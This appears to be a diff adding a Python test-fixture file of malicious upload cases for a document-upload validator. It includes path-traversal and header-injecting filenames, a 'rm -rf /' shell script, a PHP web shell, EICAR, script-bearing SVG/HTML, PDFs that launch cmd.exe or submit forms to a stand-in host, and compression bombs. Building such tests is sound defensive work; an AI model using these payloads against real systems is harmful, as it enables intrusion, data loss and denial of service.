@@ -1,0 +1,359 @@
+"""What nobody honest sends: each with its name, its octets and a word of why it is refused."""
+
+import struct
+import zlib
+from io import BytesIO
+from zipfile import ZIP_DEFLATED, ZipFile
+
+import pikepdf
+from pikepdf import Array, Dictionary, Name, String
+
+from tests.data.controls.files.pieces import (
+    blank,
+    by_hand,
+    changed,
+    document,
+    jpeg,
+    pdf,
+    png,
+    saved,
+    scan,
+)
+
+Case = tuple[str, bytes, str]
+
+EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!$H+H*"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
+_PDF, _JPEG, _PNG = pdf(), jpeg(), png()
+
+
+def archive(**members: bytes) -> bytes:
+    held = BytesIO()
+    with ZipFile(held, "w", ZIP_DEFLATED) as made:
+        for name, content in members.items():
+            made.writestr(name, content)
+    return held.getvalue()
+
+
+def chunk(name: bytes, content: bytes) -> bytes:
+    return (
+        struct.pack(">I", len(content))
+        + name
+        + content
+        + struct.pack(">I", zlib.crc32(name + content))
+    )
+
+
+def huge_png(side: int) -> bytes:
+    """A picture of *side* by *side* points in a few kilobytes."""
+    rows = zlib.compress(bytes((side // 8 + 1) * side), 9)
+    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
+    return _PNG[:8] + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
+
+
+def _names() -> dict[str, Case]:
+    wrong = {
+        "folder": "../../etc/passwd.pdf",
+        "root": "/etc/cron.d/mandat.pdf",
+        "windows": "C:\\Windows\\mandat.pdf",
+        "up and back": "..\\..\\mandat.pdf",
+        "nul": "mandat.pdf\0.exe",
+        "line": "mandat\r\nContent-Type: text/html.pdf",
+        "turned": "mandat\u202efdp.exe.pdf",
+        "half a sign": "mandat\ud800.pdf",
+        "nothing": "",
+        "blanks": "   ",
+        "dots": "..",
+        "long": "m" * 200 + ".pdf",
+    }
+    return {f"name, {case}": (name, _PDF, "nom") for case, name in wrong.items()}
+
+
+def _types() -> dict[str, Case]:
+    other = "ni un PDF"
+    return {
+        "empty": ("mandat.pdf", b"", "vide"),
+        "too large": ("mandat.pdf", _PDF + b"\n" * (4 * 1024 * 1024), "trop"),
+        "png named pdf": ("mandat.pdf", _PNG, "en réalité"),
+        "pdf named jpeg": ("mandat.jpg", _PDF, "en réalité"),
+        "jpeg named png": ("mandat.png", _JPEG, "en réalité"),
+        "no extension": ("mandat", _PDF, other),
+        "program after": ("mandat.pdf.exe", _PDF, other),
+        "program": ("mandat.pdf", b"MZ" + bytes(4000), other),
+        "elf": ("mandat.png", b"\x7fELF" + bytes(4000), other),
+        "shell": ("mandat.pdf", b"#!/bin/sh\nrm -rf /\n", other),
+        "svg": ("mandat.svg", SVG, other),
+        "svg named png": ("mandat.png", SVG, other),
+        "html named pdf": ("mandat.pdf", HTML, other),
+        "xml entities": ("mandat.pdf", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', other),
+        "zip named pdf": ("mandat.pdf", archive(a=b"b"), other),
+        "word named pdf": ("mandat.pdf", archive(**{"word/document.xml": b"<w/>"}), other),
+        "gif named png": ("mandat.png", b"GIF89a" + bytes(100), other),
+        "tiff named jpeg": ("mandat.jpg", b"II*\0" + bytes(100), other),
+        "postscript": ("mandat.pdf", b"%!PS-Adobe-3.0\n(w) file\n", other),
+        "heic": ("photo.heic", b"\0\0\0\x18ftypheic" + bytes(100), "HEIC"),
+        "heic named jpeg": ("photo.jpg", b"\0\0\0\x18ftypmif1" + bytes(100), "HEIC"),
+        "eicar": ("mandat.pdf", EICAR, "virus"),
+        "eicar in a pdf": ("mandat.pdf", _PDF.replace(b"\n", b"\n%" + EICAR + b"\n", 1), "virus"),
+        "eicar after a picture": ("mandat.jpg", _JPEG + EICAR, "virus"),
+        "eicar in a zip": ("mandat.pdf", archive(eicar=EICAR), other),
+    }
+
+
+def _polyglots() -> dict[str, Case]:
+    hides = "autre chose"
+    return {
+        "pdf later": ("mandat.pdf", b"\n\n" + _PDF, "ni un PDF"),
+        "pdf after a picture's sign": ("mandat.png", b"\x89PNG\r\n\x1a\n" + _PDF, hides),
+        "pdf and zip": ("mandat.pdf", _PDF + archive(a=b"b"), hides),
+        "pdf and zip and end": ("mandat.pdf", _PDF + archive(a=b"b") + b"\n%%EOF\n", hides),
+        "pdf and html": ("mandat.pdf", _PDF + HTML, hides),
+        "html in a comment of a pdf": (
+            "mandat.pdf",
+            _PDF.replace(b"\n", b"\n%" + HTML + b"\n", 1),
+            hides,
+        ),
+        "php in a pdf": ("mandat.pdf", _PDF + b"<?php system($_GET[0]); ?>\n%%EOF", hides),
+        "pdf and octets": ("mandat.pdf", _PDF + b"\x90" * 500, "abîmé"),
+        "pdf and far octets": ("mandat.pdf", _PDF + b"\x90" * 5000, "abîmé"),
+        "jpeg and zip": ("mandat.jpg", _JPEG + archive(a=b"b"), hides),
+        "jpeg and rar": ("mandat.jpg", _JPEG + b"Rar!\x1a\x07\x01\0", hides),
+        "jpeg and 7z": ("mandat.jpg", _JPEG + b"7z\xbc\xaf\x27\x1c", hides),
+        "jpeg and pdf": ("mandat.jpg", _JPEG + _PDF, hides),
+        "jpeg and html": ("mandat.jpg", _JPEG + HTML, hides),
+        "script in a jpeg's comment": ("mandat.jpg", jpeg(comment=HTML), hides),
+        "png and zip": ("mandat.png", _PNG + archive(a=b"b"), hides),
+        "png and svg": ("mandat.png", _PNG + SVG, hides),
+        "png and octets": ("mandat.png", _PNG + b"abc", "abîmé"),
+        "two ends of a png": ("mandat.png", _PNG + b"abc" + _PNG[-12:], "abîmé"),
+        "script in a png's text": (
+            "mandat.png",
+            _PNG[:33] + chunk(b"tEXt", b"Comment\0" + HTML) + _PNG[33:],
+            hides,
+        ),
+    }
+
+
+def _damaged() -> dict[str, Case]:
+    half = {
+        f"{name} cut at {part}": (name, content[: len(content) * part // 10], "abîmé")
+        for name, content in (("mandat.pdf", _PDF), ("mandat.jpg", _JPEG), ("mandat.png", _PNG))
+        for part in (3, 6, 9)
+    }
+    flipped = bytearray(_PNG)
+    flipped[len(flipped) // 2] ^= 0xFF
+    return {
+        **half,
+        "a sign alone, pdf": ("mandat.pdf", b"%PDF-", "abîmé"),
+        "a sign alone, jpeg": ("mandat.jpg", b"\xff\xd8\xff", "abîmé"),
+        "a sign alone, png": ("mandat.png", _PNG[:8], "abîmé"),
+        "a sign and an end, pdf": ("mandat.pdf", b"%PDF-1.7\n%%EOF", "abîmé"),
+        "a sign and an end, jpeg": ("mandat.jpg", b"\xff\xd8\xff\xd9", "abîmé"),
+        "a sign and an end, png": ("mandat.png", _PNG[:8] + _PNG[-12:], "abîmé"),
+        "noise, pdf": ("mandat.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"%%EOF", "abîmé"),
+        "noise, jpeg": (
+            "mandat.jpg",
+            b"\xff\xd8\xff" + bytes(range(256)) * 9 + b"\xff\xd9",
+            "abîmé",
+        ),
+        "a flipped png": ("mandat.png", bytes(flipped), "abîmé"),
+        "a table that lies": ("mandat.pdf", _PDF.replace(b"startxref\n", b"startxref\n9"), "abîmé"),
+        "a loop of tables": (
+            "mandat.pdf",
+            _PDF.replace(b"/Size", b"/Prev 9999999 /Size", 1),
+            "abîmé",
+        ),
+    }
+
+
+def _acting(action: Dictionary) -> bytes:
+    return changed(lambda made: made.Root.__setitem__("/OpenAction", action))
+
+
+def _scripted(made: pikepdf.Pdf) -> None:
+    """A script that only the names of the document lead to."""
+    said = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
+    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), said])))
+
+
+def _annotated(made: pikepdf.Pdf) -> None:
+    """A button whose action is deep in a chain, in dictionaries without a number."""
+    last = Dictionary(S=Name.URI, URI=String("https://tilleuls.example"))
+    last.Next = Array([Dictionary(S=Name.Launch, F=String("cmd.exe"))])
+    made.pages[0].Annots = Array(
+        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=last)]
+    )
+
+
+def _attached(made: pikepdf.Pdf) -> None:
+    made.attachments["virus.exe"] = pikepdf.AttachedFileSpec(made, b"MZ" + bytes(100))
+
+
+def _orphan(made: pikepdf.Pdf) -> None:
+    """A file inside that nothing leads to but its number."""
+    made.Root.Kept = made.make_stream(b"MZ", Type=Name.EmbeddedFile)
+
+
+def _form(made: pikepdf.Pdf) -> None:
+    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))
+
+
+def _active() -> dict[str, Case]:
+    scripts, joined = "scripts", "joints"
+    return {
+        "script on opening": (
+            "mandat.pdf",
+            _acting(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))),
+            scripts,
+        ),
+        "script by its name": ("mandat.pdf", changed(_scripted), scripts),
+        "program launched": (
+            "mandat.pdf",
+            _acting(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
+            scripts,
+        ),
+        "program deep": ("mandat.pdf", changed(_annotated), scripts),
+        "form sent": (
+            "mandat.pdf",
+            _acting(Dictionary(S=Name.SubmitForm, F=String("https://mal.example"))),
+            scripts,
+        ),
+        "data imported": (
+            "mandat.pdf",
+            _acting(Dictionary(S=Name.ImportData, F=String("/etc/passwd"))),
+            scripts,
+        ),
+        "xfa": ("mandat.pdf", changed(_form), scripts),
+        "file inside": ("mandat.pdf", changed(_attached), joined),
+        "file without a way": ("mandat.pdf", changed(_orphan), joined),
+        "script in other letters": (
+            "mandat.pdf",
+            blank(b"/OpenAction << /S /J#61vaScr#69pt /#4a#53 (app.alert\\(1\\)) >>"),
+            scripts,
+        ),
+        "launched in other letters": ("mandat.pdf", blank(b"", b"<< /S /L#61unch >>"), scripts),
+        "file in other letters": (
+            "mandat.pdf",
+            blank(b"", b"<< /Type /F#69lespec /E#46 << /F 3 0 R >> >>"),
+            joined,
+        ),
+        "script twice over": (
+            "mandat.pdf",
+            blank(b"/OpenAction [[<< /A << /B [<< /S /JavaScript >>] >> >>]]"),
+            scripts,
+        ),
+        "script packed": (
+            "mandat.pdf",
+            _packed(_scripted),
+            scripts,
+        ),
+    }
+
+
+def _packed(change) -> bytes:
+    """With its objects in compressed streams, where no search for words finds them."""
+    made = document("Mandat")
+    change(made)
+    return saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+
+
+def _bomb(layers: int) -> bytes:
+    """A stream that is thousands of times larger once unpacked, *layers* times over."""
+    content = bytes(200 * 1024 * 1024)
+    for _ in range(layers):
+        content = zlib.compress(content, 9)
+    made = document("Mandat")
+    made.Root.Kept = made.make_stream(b"")
+    made.Root.Kept.write(content, filter=Array([Name.FlateDecode] * layers))
+    return saved(made)
+
+
+def _packed_bomb() -> bytes:
+    """A stream of objects, which a reader unpacks as soon as it opens the document."""
+    content = _packed(_scripted)
+    at = content.index(b"/ObjStm")
+    start = content.index(b"stream\n", at) + len(b"stream\n")
+    stop = content.index(b"endstream", start)
+    body = zlib.compress(zlib.decompress(content[start:stop]) + b" " * (200 * 1024 * 1024), 9)
+    head = content[:start].rpartition(b"/Length ")
+    length = head[2].split(b" ", 1)[0].split(b">", 1)[0]
+    new = head[0] + head[1] + str(len(body)).encode() + head[2][len(length) :]
+    moved = new + body + b"\n" + content[stop:]
+    table = moved.rindex(b" obj", 0, moved.index(b"/XRef"))
+    table = moved.rindex(b"\n", 0, table) + 1
+    before, _word, _after = moved.rpartition(b"startxref\n")
+    return before + b"startxref\n" + str(table).encode() + b"\n%%EOF\n"
+
+
+def vast(**options: object) -> bytes:
+    """A small picture that says it is 65,000 points wide and high."""
+    content = bytearray(jpeg(**options))
+    at = content.index(b"\xff\xc2" if options else b"\xff\xc0")
+    content[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
+    return bytes(content)
+
+
+def _deep() -> bytes:
+    """Arrays in arrays, further than any reader follows."""
+    return _PDF.replace(b"/Type /Catalog", b"/A " + b"[" * 9000 + b"]" * 9000 + b" /Type /Catalog")
+
+
+def _bounds() -> dict[str, Case]:
+    locked = pikepdf.Encryption(owner="secret", user="", R=6)
+    shut = pikepdf.Encryption(owner="secret", user="secret", R=6)
+    old = pikepdf.Encryption(owner="secret", user="secret", R=3, aes=False, metadata=False)
+    empty = pikepdf.new()
+    empty.Root.Pages.Count = 0
+    return {
+        "encrypted": ("mandat.pdf", pdf(encryption=shut), "protégé"),
+        "encrypted, old": ("mandat.pdf", pdf(encryption=old), "protégé"),
+        "restricted": ("mandat.pdf", pdf(encryption=locked), "protégé"),
+        "no page": ("mandat.pdf", saved(empty), "aucune page"),
+        "bomb of a pdf": ("mandat.pdf", _bomb(1), "démesuré"),
+        "bomb in a bomb": ("mandat.pdf", _bomb(2), "démesuré"),
+        "bomb of objects": ("mandat.pdf", _packed_bomb(), "abîmé"),
+        "bomb of a png": ("mandat.png", huge_png(8_000), "démesuré"),
+        "larger bomb of a png": ("mandat.png", huge_png(20_000), "démesuré"),
+        "vast jpeg": ("mandat.jpg", vast(), "démesuré"),
+        "vast jpeg, by layers": ("mandat.jpg", vast(progressive=True), "démesuré"),
+        "vast jpeg in a pdf": ("mandat.pdf", scan(vast()), "abîmé"),
+        "cut jpeg in a pdf": ("mandat.pdf", scan(_JPEG[:-500]), "abîmé"),
+        "pages in a loop": (
+            "mandat.pdf",
+            by_hand(
+                b"<< /Type /Catalog /Pages 2 0 R >>",
+                b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
+            ),
+            "abîmé",
+        ),
+        "a length without end": (
+            "mandat.pdf",
+            blank(b"", b"<< /Length 99999999999 >>\nstream\nabc\nendstream"),
+            "abîmé",
+        ),
+        "script past a fault": (
+            "mandat.pdf",
+            blank(
+                b"/OpenAction 4 0 R",
+                b"<< /S /JavaScript /JS (a) /Length 999 >>\nstream\nabc\nendstream",
+            ),
+            "abîmé",
+        ),
+        "script under a second key": (
+            "mandat.pdf",
+            blank(b"/OpenAction << /S /JavaScript /S /GoTo >>"),
+            "abîmé",
+        ),
+        "deep pdf": ("mandat.pdf", _deep(), "abîmé"),
+    }
+
+
+CASES: dict[str, Case] = {
+    **_names(),
+    **_types(),
+    **_polyglots(),
+    **_damaged(),
+    **_active(),
+    **_bounds(),
+}
